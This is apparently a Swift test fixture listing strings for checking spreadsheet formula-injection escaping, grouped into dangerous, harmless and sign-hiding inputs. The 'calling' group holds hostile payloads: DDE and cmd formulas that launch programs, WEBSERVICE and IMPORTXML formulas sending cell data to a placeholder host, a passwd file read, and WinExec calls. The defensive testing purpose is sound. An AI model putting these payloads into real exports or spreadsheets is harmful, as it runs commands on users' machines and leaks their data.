/// Texts that a spreadsheet runs, or that become a formula where something before it is lost.
enum FormulaTexts {
    static let own: [String] = calling + counting + hidden

    /// What calls a program, sends something away or reads a file.
    private static let calling: [String] = [
        "=2+5+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@cmd|' /C calc'!A0",
        "=cmd|'/C notepad'!'A1'", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
        "=DDE(\"cmd\";\"/C calc\";\"x\")", "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!'x'",
        "=HYPERLINK(\"http://x.invalid/?\"&A1,\"see here\")", "=WEBSERVICE(\"http://x.invalid/\"&A1)",
        "=IMPORTXML(CONCAT(\"http://x.invalid/?v=\",A1),\"//a\")", "=IMPORTDATA(\"http://x.invalid/\")",
        "=IMPORTRANGE(\"x\",\"A1\")", "=IMAGE(\"http://x.invalid/\"&A1)", "='file:///etc/passwd'#$x.A1",
        "=CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)", "=REGISTER.ID(\"kernel32\",\"WinExec\")",
    ]

    /// What is only counted, or might be a number.
    private static let counting: [String] = [
        "=1+1", "+1+1", "-2+3", "@SUM(A1:A9)", "=-1", "=+1", "==1", "=@1", "=A1", "=R1C1", "={1,2}", "=1;2", "=TRUE",
        "=\"a\"&\"b\"", "=it's", "+18", "-5", "-1,000.5", "+1 (555) 0100", "@home", "--1", "=", "=\u{1F600}",
    ]

    /// What hides the sign, or a cell that ends early.
    private static let hidden: [String] = [
        "\t=1+1", "\r=1+1", "\r\n=1+1", "\n=1+1", " =1+1", "\u{A0}=1+1", "\u{3000}=1+1", "\u{FEFF}=1+1", "a\t=1+1",
        "a\n=1+1", "a,=1+1", "\",=1+1", "\"=1+1\"", "'=1+1", "''=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)",
    ]
}
